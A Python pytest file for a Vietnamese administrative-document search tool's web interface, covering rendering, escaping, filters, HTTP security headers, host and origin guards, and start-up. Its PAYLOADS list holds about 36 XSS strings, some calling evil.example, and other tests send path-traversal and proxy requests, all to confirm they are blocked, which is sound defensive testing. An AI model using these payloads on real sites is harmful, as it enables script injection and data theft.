"""The page without a browser: HTML of every view, the guard, the JSON interface, start-up."""

import base64
import dataclasses
import json
import re
import socket
import subprocess
import sys
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import pytest

from fake_library import LEAD, TEXT, FakeLibrary, make_document
from tracuu import vi
from tracuu.errors import ServerError
from tracuu.types import Filters, InferredPart, Signatory, Span, Stated
from tracuu.web import asking, cards, listing, markup, page, pasting, reader, results, scope, server
from tracuu.web.examples import examples
from tracuu.web.guard import SCRIPTS, STYLES, Guard
from tracuu.web.library import QUESTIONS_AT_ONCE, InTurn

PAYLOADS = (
    "<script>window.ran=1</script>",
    "<ScRiPt>window.ran=1</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    "<img src=x onerror='window.ran=1'>",
    '"><img src=x onerror=window.ran=1>',
    "'><img src=x onerror=window.ran=1>",
    '" onmouseover="window.ran=1" x="',
    "' onfocus='window.ran=1' autofocus x='",
    "<svg onload=window.ran=1>",
    "<svg><script>window.ran=1</script></svg>",
    "<svg><animate onbegin=window.ran=1 attributeName=x></svg>",
    "<body onload=window.ran=1>",
    "<iframe src=javascript:parent.ran=1></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<a href=javascript:window.ran=1>x</a>",
    "<details open ontoggle=window.ran=1>",
    "<video><source onerror=window.ran=1></video>",
    "<input autofocus onfocus=window.ran=1>",
    "<math><mi//xlink:href='data:x,<script>window.ran=1</script>'>",
    "<object data=javascript:window.ran=1></object>",
    "<embed src=javascript:window.ran=1>",
    "<style>*{background:url(//evil.example/)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example><button autofocus>x</button></form>",
    "${window.ran=1}",
    "`${window.ran=1}`",
    "{{constructor.constructor('window.ran=1')()}}",
    "</textarea><script>window.ran=1</script>",
    "--><script>window.ran=1</script>",
    "]]><script>window.ran=1</script>",
    "<mark><script>window.ran=1</script></mark>",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
)
_TAGS = frozenset(
    """a article b blockquote button dd details div dl dt h2 h3 h4 header input label li mark nav ol p section small
    span strong summary table td tr ul""".split()  # noqa: SIM905
)
_ATTRIBUTES = frozenset(
    """aria-controls aria-current aria-describedby aria-disabled aria-expanded aria-hidden aria-label aria-level
    aria-pressed autocomplete class colspan data-all data-answered data-close-reader data-column data-copy data-copy-link
    data-doc data-empty data-everywhere data-graph data-jump data-link data-note data-outline data-question data-quote data-reader data-search
    data-turn data-wide hidden href id role spellcheck tabindex title type""".split()  # noqa: SIM905
)


class _Elements(HTMLParser):
    """Collects tags and attributes as a browser would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.text = ""

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value for name, value in attrs if name == "href"]

    def handle_data(self, data):
        self.text += data


def parsed(html: str) -> _Elements:
    elements = _Elements()
    elements.feed(html)
    elements.close()
    return elements


def read(library: FakeLibrary):
    return lambda source, span: library.source(source).text[span.start : span.end]


def hostile_library(payload: str) -> FakeLibrary:
    text = f"I. MỤC ĐÍCH\n{payload}\n{payload} {LEAD} {payload}"
    return FakeLibrary({f"{payload}.txt": text}, name=payload, kind=payload)


@pytest.fixture(scope="session")
def client():
    from fastapi.testclient import TestClient

    with TestClient(server.create_app(FakeLibrary()), base_url="http://127.0.0.1:7860") as client:
        yield client


# --- HTML of the views --------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_markup_of_a_document_name_or_question_survives_in_any_view(payload):
    library = hostile_library(payload)
    source = library.documents[0].source_id
    views = [
        page.answer(library, payload),
        page.answer(library, f"{payload} Hà Giang"),
        page.answer(library, f"{payload} khác"),
        page.passages(library, payload),
        page.document(library, source, "12", "30"),
        page.document(library, payload, payload, payload),
        listing.documents_html(library.documents),
        page.answer(library, "q", payload, payload, payload, payload, payload),
    ]
    for view in views:
        elements = parsed(view)
        assert elements.tags <= _TAGS
        assert elements.attributes <= _ATTRIBUTES
        assert all(link.startswith("?doc=") for link in elements.links)
    assert payload in parsed(views[4]).text


def test_answer_comes_first_then_its_card_with_reference_and_locator():
    library = FakeLibrary()
    view = page.answer(library, "Cơ quan nào chủ trì?")
    text = parsed(view).text
    assert text.index(LEAD) < text.index("Căn cứ") < text.rindex("STT 6, Phụ lục, Kế hoạch số 39-KH/TU")
    assert "STT 6, Phụ lục" in text
    assert "13/3/2026" in text
    assert "Rất sát" in text


@pytest.mark.parametrize(
    ("short", "whole", "said"),
    [
        (
            "phần chữ ký, Kế hoạch số 2233/KH-UBND",
            "phần chữ ký, Kế hoạch số 2233/KH-UBND ngày 30 tháng 3 năm 2026 của Ủy ban nhân dân tỉnh Lai Châu",
            "phần chữ ký, Kế hoạch số 2233/KH-UBND ngày 30 tháng 3 năm 2026",
        ),
        (
            "mục 1, Kế hoạch số 12-KH/TU",
            "mục 1, Kế hoạch số 12-KH/TU, ngày [13/3/2026] của Tỉnh ủy Hà Tĩnh",
            "mục 1, Kế hoạch số 12-KH/TU, ngày [13/3/2026]",
        ),
        (
            "mục 1, Kế hoạch ngày 05 tháng 5 năm 2026 của Sở Y tế",
            "mục 1, Kế hoạch ngày 05 tháng 5 năm 2026 của Sở Y tế về phòng dịch ngày 01/6/2026",
            "mục 1, Kế hoạch ngày 05 tháng 5 năm 2026 của Sở Y tế",
        ),
        ("mục 1, Kế hoạch số 9/KH-SYT", "mục 1, Kế hoạch số 9/KH-SYT của Sở Y tế", "mục 1, Kế hoạch số 9/KH-SYT"),
    ],
)
def test_answer_names_its_document_with_the_date_as_its_style_has_it(short, whole, said):
    library = FakeLibrary()
    citation = dataclasses.replace(library.citation(), short_reference=short, reference=whole, marked_reference=whole)
    answer = dataclasses.replace(library.ask("Cơ quan nào chủ trì?"), citations=(citation,))
    assert f"Theo {said}." in parsed(results.answer_html(answer, read(library))).text


def test_card_marks_what_the_answer_took_from_the_quote():
    library = FakeLibrary()
    assert f"<mark>{LEAD}</mark>" in cards.card(library.citation(), read(library))


def test_card_marks_what_the_answer_took_from_a_heading_above():
    library = FakeLibrary()
    citation = library.citation(highlight="không có")
    at = TEXT.find("PHỤ LỤC")
    citation = dataclasses.replace(citation, highlights=(Span(at, at + 7),))
    assert "<li><mark>PHỤ LỤC</mark></li>" in cards.card(citation, read(library))


def test_card_says_that_the_passage_stands_in_another_copy():
    library = FakeLibrary()
    text = parsed(cards.card(library.citation(), read(library))).text
    assert "Đoạn này có cả trong tệp ke-hoach-39.txt (có chỗ khác chữ, cần đối chiếu)." in text


def test_copied_quotation_is_the_words_without_markup_in_marks_with_its_reference():
    library = FakeLibrary({"a.txt": "Mở đầu\n**Diện tích** đạt 32m<sup>2</sup>, 10 m^2."})
    citation = library.citation()
    assert pasting.pasted(citation, pasting.printed(library, citation)) == (
        f"“Diện tích đạt 32m², 10 m².” ({citation.reference})"
    )
    shown = parsed(cards.card(citation, read(library)))
    assert "Diện tích đạt 32m², 10 m²." in shown.text


def test_marks_of_an_answer_stay_at_their_words_when_the_signs_go():
    text = "**Chỉ tiêu**: đạt 32m<sup>2</sup>\tnăm 2030"
    spans = [Span(100, 112), Span(100 + text.find("năm"), 100 + len(text))]
    assert markup.shown(text, 100, spans) == (
        '<mark>Chỉ tiêu</mark>: đạt 32m²<span class="tc-tab">\t</span><mark>năm 2030</mark>'
    )


def test_what_was_inferred_of_a_reference_stands_in_brackets_wherever_it_is_used():
    citation = dataclasses.replace(
        FakeLibrary().citation(),
        marked_reference="STT 6, Phụ lục, Kế hoạch số [39-KH/TU], ngày [13/3/2026]",
        short_reference="STT 6, Phụ lục, Kế hoạch số [39-KH/TU]",
        footnote="STT 6, Phụ lục, Kế hoạch số [39-KH/TU], ngày [13/3/2026].",
        inferred=tuple(InferredPart(part=p, value="x", why="y") for p in ("symbol", "issued_on")),
    )
    answer = dataclasses.replace(FakeLibrary().ask("Ai chủ trì?"), citations=(citation,))
    page = parsed(results.answer_html(answer, read(FakeLibrary())))
    assert "Theo STT 6, Phụ lục, Kế hoạch số [39-KH/TU], ngày [13/3/2026]." in page.text
    assert vi.INFERRED_BRACKETS in page.text
    assert "39-KH/TU" in page.text
    assert "39-KH/TU" not in page.text.replace("[39-KH/TU]", "")


def test_a_badge_says_what_was_inferred_and_not_what_a_person_wrote():
    header = make_document("a.txt", TEXT).header
    kind = dataclasses.replace(header, symbol=Stated(value="584"), kind=Stated(value="Công văn", inferred="thể thức"))
    assert ">tên loại suy ra<" in markup.name_badges(kind)
    assert ">số suy ra<" not in markup.name_badges(kind)
    assert markup.name_badges(dataclasses.replace(kind, symbol=Stated(value="584-CV/ĐU"))) == ""
    vouched = vi.SIDECAR_REASON.format(name="a.toml")
    assert markup.name_badges(dataclasses.replace(kind, kind=Stated(value="Công văn", inferred=vouched))) == ""


def test_abstention_says_why_and_names_the_nearest_passages_as_such_without_grading_them():
    text = parsed(page.answer(FakeLibrary(), "Hà Giang có bao nhiêu đô thị?")).text
    assert "Chưa đủ căn cứ để trả lời" in text
    assert "không nói đến địa phương, cơ quan, văn bản hoặc năm nêu trong câu hỏi" in text
    assert results.NEAREST in text
    assert "Rất sát" not in text


@pytest.mark.parametrize(
    ("question", "said"), [("", "chưa có chữ nào."), ("   ", "chưa có chữ nào."), ("x" * 2001, "dài quá 2.000 ký tự.")]
)
def test_bad_question_gets_a_sentence_and_no_card(question, said):
    view = parsed(page.answer(FakeLibrary(), question))
    assert f"Câu hỏi {said}" in view.text
    assert "article" not in view.tags


def test_question_as_understood_is_told_only_when_it_differs_in_more_than_its_end():
    library = FakeLibrary()
    answer = library.ask("co quan nao chu tri?")
    said = "Hiểu là"
    same = dataclasses.replace(answer, understood="Co quan nao chu tri")
    restored = dataclasses.replace(answer, understood="cơ quan nào chủ trì")
    assert said not in results.answer_html(same, read(library))
    assert f"{said}: cơ quan nào chủ trì" in results.answer_html(restored, read(library))


def test_conflicting_values_stand_side_by_side_with_their_documents():
    view = page.answer(FakeLibrary(), "Văn bản khác nêu gì?")
    beside = view[view.index('class="tc-columns"') : view.index("Căn cứ")]
    assert beside.count("<article") == 2
    assert "Các văn bản nêu khác nhau" in parsed(view).text
    assert "Sở <mark>Tài chính</mark>" in beside
    assert beside.count("data-reader") == 2


@pytest.mark.parametrize(
    ("value", "other", "html"),
    [
        ("đạt 28 m²", "đạt 32 m²", "đạt <mark>28</mark> m²"),
        ("đạt tối thiểu 32 m²", "đạt 28 m²", "đạt <mark>tối thiểu 32</mark> m²"),
        ("đạt 28 m²", "đạt ít nhất 28 m²", "đạt 28 m²"),
        ("<b> x", "y", "<mark>&lt;b&gt; x</mark>"),
    ],
)
def test_words_that_the_other_value_lacks_are_marked(value, other, html):
    assert results.differing(value, other) == html


def test_large_words_are_the_answers_own_value_and_the_copy_holds_both():
    library = FakeLibrary()
    answer = library.ask("khác")
    answer = dataclasses.replace(answer, answer="28 m²; nơi khác nêu: 32 m²")
    view = results.answer_html(answer, read(library))
    assert '<p class="tc-value">28 m²</p>' in view
    assert 'data-copy="28 m²; nơi khác nêu: 32 m² (STT 6' in view


@pytest.mark.parametrize(
    ("confidence", "words", "care"),
    [(0.99, "Độ tin cậy cao", False), (0.8, "Độ tin cậy khá", True), (0.45, "Độ tin cậy thấp", True)],
)
def test_confidence_is_said_in_words_and_doubt_asks_for_care(confidence, words, care):
    library = FakeLibrary()
    view = results.answer_html(dataclasses.replace(library.ask("q"), confidence=confidence), read(library))
    assert words in view
    assert ("tc-care" in view) is care


def test_card_gives_every_form_of_the_reference_and_what_of_it_was_inferred():
    library = FakeLibrary()
    inferred = (InferredPart(part="symbol", value="39-KH/TU", why="suy ra từ phụ lục"),)
    citation = dataclasses.replace(
        library.citation(), short_reference="STT 6, Phụ lục, KH 39", footnote="STT 6 … 2026.", inferred=inferred
    )
    view = parsed(cards.card(citation, read(library)))
    for name, form in (
        ("Đầy đủ", citation.reference),
        ("Rút gọn, khi đã viện dẫn lần đầu", "STT 6, Phụ lục, KH 39"),
        ("Chú thích cuối trang", "STT 6 … 2026."),
    ):
        assert f"{name}{form} Sao chép" in view.text
    assert "Phần suy ra, văn bản không ghi ở chỗ thường lệ: [39-KH/TU]: suy ra từ phụ lục." in view.text


def test_card_names_a_document_as_later_mentions_do():
    citation = dataclasses.replace(
        FakeLibrary().citation(), short_reference="STT 6, Phụ lục, chương trình hành động của Tỉnh ủy Hà Tĩnh"
    )
    assert cards.name_of(citation) == "Chương trình hành động của Tỉnh ủy Hà Tĩnh"


def test_a_fault_of_the_library_becomes_a_sentence_not_a_traceback():
    class Broken(FakeLibrary):
        def ask(self, question, *, top=5, filters=None):
            raise RuntimeError("secret path /x")

    text = parsed(page.answer(Broken(), "q")).text
    assert "báo người quản trị" in text
    assert "secret" not in text


def test_anything_but_text_in_the_place_of_a_question_is_an_empty_question():
    library = FakeLibrary()
    page.answer(library, {"x": 1}, ["y"], 3)
    assert library.asked[-1][0] == ""


@pytest.mark.parametrize(
    ("score", "words"),
    [
        (1.0, "Rất sát câu hỏi"),
        (0.9, "Rất sát câu hỏi"),
        (0.89, "Sát câu hỏi"),
        (0.7, "Sát câu hỏi"),
        (0.69, "Có liên quan"),
        (0.0, "Có liên quan"),
    ],
)
def test_scores_are_said_in_words(score, words):
    assert cards.closeness(score) == words


@pytest.mark.parametrize(
    ("value", "written"),
    [(date(2022, 6, 8), "08/6/2022"), (date(2022, 1, 24), "24/01/2022"), (date(2026, 10, 3), "03/10/2026")],
)
def test_dates_are_written_as_offices_write_them(value, written):
    assert markup.day(value) == written


@pytest.mark.parametrize(
    ("spans", "html"),
    [
        ((), "a&lt;b"),
        ((Span(10, 11),), "<mark>a</mark>&lt;b"),
        ((Span(10, 12), Span(11, 13)), "<mark>a&lt;</mark><mark>b</mark>"),
        ((Span(0, 5), Span(20, 30)), "a&lt;b"),
        ((Span(0, 30),), "<mark>a&lt;b</mark>"),
    ],
)
def test_marks_are_cut_to_the_text(spans, html):
    assert markup.marked("a<b", 10, spans) == html


def test_lone_surrogate_does_not_stop_a_view():
    assert "\ud800" not in page.answer(FakeLibrary({"a.txt": f"x\ud800 {LEAD}"}), "q\ud800")


# --- The reader ---------------------------------------------------------------------------------


def test_reader_shows_the_source_word_for_word_with_the_place_marked():
    library = FakeLibrary()
    citation = library.citation()
    view = page.document(library, citation.source, str(citation.start), str(citation.end))
    body = view[view.index('class="tc-text"') :]
    assert TEXT in parsed("<div " + body).text
    marked = body[body.index("<mark>") + 6 : body.index("</mark>")]
    assert parsed(marked).text == citation.quote
    assert body.index('id="trich"') < body.index("<mark>")


@pytest.mark.parametrize(
    ("start", "end"),
    [(None, None), ("", ""), ("-1", "5"), ("9", "3"), ("0", "99999999"), ("a", "b"), ("٣", "٤"), ("1" * 50, "2" * 50)],
)
def test_reader_without_a_usable_place_shows_the_text_and_no_mark(start, end):
    view = page.document(FakeLibrary(), "ke-hoach-39.txt", start, end)
    assert "<mark>" not in view
    assert "PHỤ LỤC" in view


def test_reader_of_an_unknown_document_says_so():
    assert "Không có văn bản này" in page.document(FakeLibrary(), "../../etc/passwd", "0", "1")


def test_reader_opens_a_document_of_a_bundle_by_its_own_name():
    library = FakeLibrary()
    second = dataclasses.replace(library.documents[0], doc_id="ke-hoach-39.txt#2", span=Span(50, len(TEXT)))
    at = reader.place((*library.documents, second), "ke-hoach-39.txt#2", None, None)
    assert at == reader.Place("ke-hoach-39.txt", Span(50, 50))


def test_outline_jumps_to_headings_that_are_in_the_text():
    view = page.document(FakeLibrary(), "ke-hoach-39.txt", None, None)
    at = TEXT.find("I. MỤC ĐÍCH")
    assert f'data-jump="v-{at}">I. MỤC ĐÍCH</button>' in view
    assert f'<span id="v-{at}"></span>I. MỤC ĐÍCH</span>' in view


def test_list_of_documents_says_what_was_inferred_and_why():
    text = parsed(listing.documents_html(FakeLibrary().documents)).text
    for value in (
        "Kế hoạch số 39-KH/TU",
        "(suy ra: đọc ở chú thích của phụ lục)",
        "13/3/2026",
        "Ban Thường vụ Tỉnh ủy",
    ):
        assert value in text


def test_list_of_documents_puts_copies_under_what_they_repeat():
    library = FakeLibrary({"a.txt": TEXT, "b.txt": TEXT})
    first, second = library.documents
    text = parsed(listing.documents_html((first, dataclasses.replace(second, copy_of="a.txt")))).text
    assert "2 văn bản (1 văn bản khác nhau) trong 2 tệp" in text
    assert "Bản khácb.txt" in text


def test_list_of_documents_is_searched_without_marks():
    assert 'data-search="39-kh/tu ke hoach' in listing.documents_html(FakeLibrary().documents)


def test_empty_list_says_what_to_do():
    assert "Kho chưa có văn bản nào" in listing.documents_html(())


def test_newest_document_is_listed_first_and_one_without_a_date_last():
    library = FakeLibrary({"a.txt": TEXT, "b.txt": TEXT, "c.txt": TEXT})
    old, new, none = library.documents
    old = dataclasses.replace(old, header=dataclasses.replace(old.header, issued_on=Stated(value=date(2022, 6, 8))))
    none = dataclasses.replace(none, header=dataclasses.replace(none.header, issued_on=None))
    view = listing.documents_html((none, old, new))
    assert view.index("doc=b.txt") < view.index("doc=a.txt") < view.index("doc=c.txt")


# --- Examples -----------------------------------------------------------------------------------


def test_examples_are_questions_that_the_shipped_corpus_answers(library):
    questions = examples(library.documents)
    assert len(questions) == 4
    assert questions[0] == "Cơ quan nào chủ trì nhiệm vụ quy hoạch đô thị Điện Biên Phủ?"
    for question in questions:
        assert library.ask(question).answer is not None, question


def test_examples_over_other_documents_ask_what_their_heads_state():
    document = make_document("a.txt", TEXT, name="12/2026/QĐ-UBND", kind="Quyết định")
    signed = dataclasses.replace(document.header, signatory=Stated(value=Signatory(name="Nguyễn Văn An")))
    assert examples([dataclasses.replace(document, header=signed)]) == [
        "Quyết định số 12/2026/QĐ-UBND do ai ký?",
        "Quyết định số 12/2026/QĐ-UBND ban hành ngày nào?",
    ]
    bare = dataclasses.replace(document.header, symbol=None)
    assert examples([dataclasses.replace(document, header=bare)]) == []


# --- Filters ------------------------------------------------------------------------------------


def test_filters_are_passed_to_the_library():
    library = FakeLibrary()
    page.answer(library, "q", "Kế hoạch", scope.ALL, "Điện Biên", "01/7/2025", "31-12-2026")
    wanted = Filters(kind="Kế hoạch", place="Điện Biên", issued_from=date(2025, 7, 1), issued_to=date(2026, 12, 31))
    assert library.asked[-1][2] == wanted


@pytest.mark.parametrize("typed", ["31/2/2026", "hôm qua", "2026", "99/99/9999"])
def test_date_that_is_none_is_refused_in_a_sentence(typed):
    library = FakeLibrary()
    assert f"“{typed}” không phải ngày hợp lệ" in parsed(page.answer(library, "q", "", "", "", typed, "")).text
    assert library.asked == []


@pytest.mark.parametrize(
    ("within", "query", "words"),
    [
        ((), "q=Ai+k%C3%BD%3F", ""),
        (("Kế hoạch", "Tất cả", "Lai Châu"), "q=Ai+k%C3%BD%3F&kind=K%E1%BA%BF+ho%E1%BA%A1ch&place=Lai+Ch%C3%A2u",
         "loại Kế hoạch, địa bàn Lai Châu"),
        (("", "", "", "01/7/2025", ""), "q=Ai+k%C3%BD%3F&from=01%2F7%2F2025", "từ ngày 01/7/2025"),
    ],
)  # fmt: skip
def test_limits_are_kept_in_the_address_and_told(within, query, words):
    assert scope.link("Ai ký?", *within) == query
    assert scope.in_words(*within) == words


def test_address_asks_again_within_its_limits():
    library = FakeLibrary()
    address = {"q": "Ai ký?", "kind": "Kế hoạch", "place": "Điện Biên", "from": "01/7/2025"}
    shown = asking.shown(library, address)
    assert shown[:-1] == ["Ai ký?", "Kế hoạch", scope.ALL, "Điện Biên", "01/7/2025", ""]
    assert library.asked[-1][2] == Filters(kind="Kế hoạch", place="Điện Biên", issued_from=date(2025, 7, 1))
    assert f'data-link="{markup.escape(scope.link("Ai ký?", *shown[1:-1]))}"' in shown[-1]


def test_address_cannot_set_what_the_lists_do_not_offer():
    assert asking.shown(FakeLibrary(), {"q": "x", "kind": "<b>"})[1] == scope.ALL


def test_address_that_asks_nothing_empties_the_tab():
    library = FakeLibrary()
    assert asking.shown(library, {}) == ["", scope.ALL, scope.ALL, scope.ALL, "", "", ""]
    assert library.asked == []


def test_address_may_ask_for_passages_alone():
    assert "Tìm được 1 đoạn" in asking.shown(FakeLibrary(), {"q": "đô thị", "find": "1"})[-1]


def test_limited_answer_says_so_and_offers_the_way_out():
    view = page.answer(FakeLibrary(), "Ai ký?", "Kế hoạch")
    assert "Chỉ xét trong phạm vi: loại Kế hoạch." in parsed(view).text
    assert "data-everywhere" in view


# --- Over HTTP ----------------------------------------------------------------------------------


def test_health_is_told(client):
    assert client.get("/healthz").json() == {"status": "ok", "documents": 1}


def test_interface_answers_with_the_keys_of_the_contract(client):
    answer = client.get("/api/ask", params={"q": "Cơ quan nào?", "top": 3, "kind": "Kế hoạch"}).json()
    assert answer["answer"] == LEAD
    assert answer["citations"][0]["document"] == "39-KH/TU"
    assert answer["citations"][0]["issued"] == "2026-03-13"
    assert {"question", "abstained", "reason", "confidence", "conflicts", "took_ms"} <= answer.keys()


def test_interface_searches_and_lists_documents(client):
    found = client.get("/api/search", params={"q": "đô thị"}).json()
    assert found["query"] == "đô thị"
    assert found["citations"][0]["source"] == "ke-hoach-39.txt"
    listed = client.get("/api/documents").json()
    assert listed[0]["issued"] == "2026-03-13"
    assert listed[0]["inferred"] == "đọc ở chú thích của phụ lục"


def test_interface_refuses_a_bad_date_with_a_sentence(client):
    reply = client.get("/api/ask", params={"q": "x", "issued_from": "mai"})
    assert reply.status_code == 400
    assert "không phải ngày hợp lệ" in reply.json()["error"]


def test_page_is_in_vietnamese_and_names_no_other_host(client):
    html = client.get("/").text
    assert '<html\n\tlang="vi"' in html
    assert "./web/page.js" in html
    for foreign in ("gradio-app/gradio/main", "fonts.googleapis", "cdnjs", "@Gradio"):
        assert foreign not in html


@pytest.mark.parametrize("path", ["/", "/healthz", "/web/page.css", "/api/documents", "/reader", "/nowhere"])
def test_every_reply_has_the_security_headers(client, path):
    headers = client.get(path).headers
    assert "frame-ancestors 'none'" in headers["content-security-policy"]
    assert "script-src 'self' 'nonce-" in headers["content-security-policy"]
    assert "'unsafe-inline'" not in headers["content-security-policy"].split("script-src")[1].split(";")[0]
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "no-referrer"
    assert "access-control-allow-origin" not in headers


def test_every_script_of_the_page_carries_the_nonce_of_its_reply(client):
    first, second = client.get("/"), client.get("/")
    nonce = first.headers["content-security-policy"].split("'nonce-")[1].split("'")[0]
    assert first.text.count("<script") == first.text.count(f'<script nonce="{nonce}"') > 3
    assert nonce not in second.text


@pytest.mark.parametrize(
    "host", ["evil.example", "evil.example:7860", "127.0.0.1.evil.example", "10.0.0.1", "", "[::1", "a@b"]
)
def test_foreign_host_is_refused(client, host):
    assert client.get("/", headers={"host": host}).status_code == 400


@pytest.mark.parametrize("host", ["localhost", "LOCALHOST:7860", "127.0.0.1", "[::1]:7860"])
def test_local_host_is_let_in(client, host):
    assert client.get("/healthz", headers={"host": host}).status_code == 200


@pytest.mark.parametrize("origin", ["http://evil.example", "null", "http://127.0.0.1:9999", "http://localhost:7860"])
def test_foreign_origin_is_refused(client, origin):
    assert client.post("/gradio_api/run/predict", headers={"origin": origin}, json={}).status_code == 403


def test_own_origin_is_let_in(client):
    assert client.get("/healthz", headers={"origin": "http://127.0.0.1:7860"}).status_code == 200


@pytest.mark.parametrize(
    "path",
    [
        "/gradio_api/upload",
        "/gradio_api/file=/etc/passwd",
        "/gradio_api/file=http://evil.example/",
        "/gradio_api/proxy=http://evil.example/",
        "/gradio_api/info",
        "/gradio_api/call/answer",
        "/gradio_api/run/answer",
        "/gradio_api/queue/join",
        "/gradio_api/queue/data",
        "/gradio_api/mcp/sse",
        "/gradio_api/openapi.json",
        "/docs",
        "/openapi.json",
        "/web/server.py",
        "/web/../server.py",
        "/monitoring",
    ],
)
def test_what_the_page_does_not_need_is_closed(client, path):
    assert client.get(path).status_code == 404
    assert client.post(path, content=b"x").status_code in {404, 405}


def test_long_body_is_refused(client):
    assert client.post("/gradio_api/run/predict", content=b"x" * 70_000).status_code == 413


def test_long_body_without_a_stated_length_is_cut_off(client):
    reply = client.post("/gradio_api/run/predict", content=(b"x" * 10_000 for _ in range(20)))
    assert reply.status_code >= 400


def test_no_handler_of_the_page_is_public():
    blocks = page.build(FakeLibrary())
    assert blocks.fns
    assert {fn.api_visibility for fn in blocks.fns.values()} == {"private"}
    assert blocks.api_open is False
    assert (
        blocks.default_concurrency_limit == QUESTIONS_AT_ONCE if hasattr(blocks, "default_concurrency_limit") else True
    )


def test_questions_beyond_the_limit_wait_for_their_turn():
    from threading import Barrier, Event, Thread

    full, leave, running = Barrier(QUESTIONS_AT_ONCE + 1), Event(), []

    class Slow(FakeLibrary):
        def search(self, query, **options):
            running.append(query)
            if len(running) <= QUESTIONS_AT_ONCE:
                full.wait(10)
                leave.wait(10)
            return ()

    library = InTurn(Slow())
    threads = [Thread(target=library.search, args=(str(n),)) for n in range(QUESTIONS_AT_ONCE + 4)]
    for thread in threads:
        thread.start()
    full.wait(10)
    assert len(running) == QUESTIONS_AT_ONCE
    leave.set()
    for thread in threads:
        thread.join(10)
    assert len(running) == QUESTIONS_AT_ONCE + 4


def test_password_is_asked_for_when_one_is_set():
    from fastapi.testclient import TestClient

    app = server.create_app(FakeLibrary(), host="0.0.0.0", password="mật khẩu")
    client = TestClient(app, base_url="http://10.1.2.3:7860")
    right = base64.b64encode("ai:mật khẩu".encode()).decode()
    wrong = base64.b64encode(b"ai:sai").decode()
    assert client.get("/healthz").status_code == 401
    assert client.get("/healthz", headers={"authorization": f"Basic {wrong}"}).status_code == 401
    assert client.get("/healthz", headers={"authorization": "Basic !!!"}).status_code == 401
    assert client.get("/healthz", headers={"authorization": f"Basic {right}"}).status_code == 200
    assert (
        client.get("/healthz", headers={"authorization": f"Basic {right}", "host": "evil.example"}).status_code == 400
    )


def test_login_is_asked_for_in_vietnamese_that_headers_can_carry():
    from fastapi.testclient import TestClient

    app = server.create_app(FakeLibrary(), host="0.0.0.0", password="x")
    client = TestClient(app, base_url="http://10.1.2.3:7860")
    refused = client.get("/", headers={"accept": "text/html,*/*"})
    assert refused.headers["www-authenticate"] == f'Basic realm="{vi.GUARD_REALM}", charset="UTF-8"'
    assert vi.GUARD_REALM.isascii()
    assert '<html lang="vi">' in refused.text
    assert vi.GUARD_REASONS[401] in refused.text
    assert "src=" not in refused.text
    assert client.get("/api/ask", headers={"accept": "text/html"}).json() == {"error": vi.GUARD_REASONS[401]}
    assert client.get("/").text == vi.GUARD_REASONS[401]


# --- Start-up -----------------------------------------------------------------------------------


def test_taken_port_is_refused_in_a_sentence_with_the_next_step():
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
        with pytest.raises(ServerError, match=rf"Cổng {port} đang được .* --port {port + 1}"):
            server.serve(FakeLibrary(), port=port)


def test_taken_port_is_found_before_gradio_is_imported():
    code = (
        "import sys, socket\nfrom tracuu.web import server\nfrom tracuu.errors import ServerError\n"
        "taken = socket.create_server(('127.0.0.1', 0))\n"
        "try:\n    server.serve(None, port=taken.getsockname()[1])\n"
        "except ServerError:\n    print('gradio' in sys.modules)\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, timeout=60)
    assert done.stdout.strip() == "False"


@pytest.mark.parametrize("port", [-1, 65_536])
def test_port_out_of_range_is_refused(port):
    with pytest.raises(ServerError, match="ngoài khoảng"):
        server.reserve("127.0.0.1", port)


def test_address_of_another_machine_is_refused():
    with pytest.raises(ServerError, match="--host"):
        server.reserve("192.0.2.1", 0)


def test_listening_beyond_this_machine_needs_a_password(monkeypatch):
    monkeypatch.delenv(server.PASSWORD_VARIABLE, raising=False)
    with pytest.raises(ServerError, match=server.PASSWORD_VARIABLE):
        server.serve(FakeLibrary(), host="0.0.0.0", port=0)


def test_application_is_behind_the_guard():
    assert isinstance(server.create_app(FakeLibrary()), Guard)


def test_style_and_script_name_no_other_host():
    folder = Path(server.__file__).parent
    for name in (*STYLES, *SCRIPTS):
        text = (folder / name).read_text(encoding="utf-8")
        assert "http://" not in text
        assert "https://" not in text
        assert "@import" not in text


def test_scripts_have_no_words_of_their_own_and_ask_for_none_that_are_not_there(client):
    island = re.search(r'<script[^>]* id="tc-words">(.*?)</script>', client.get("/").text, re.DOTALL)
    assert json.loads(island[1]) == vi.SCRIPT_WORDS
    folder = Path(server.__file__).parent
    code = "\n".join(re.sub(r"(?m)^\s*//.*$", "", (folder / name).read_text(encoding="utf-8")) for name in SCRIPTS)
    assert set(re.findall(r"[À-ỹ]", code)) == {"đ", "Đ"}  # of the search without marks
    asked = re.findall(r"\bsay\(([^;]*?)[,)]", code)
    assert {name for call in asked for name in re.findall(r'"(\w+)"', call)} == {
        name for name in vi.SCRIPT_WORDS if name.removeprefix("tab ") not in vi.PAGE_TABS
    }
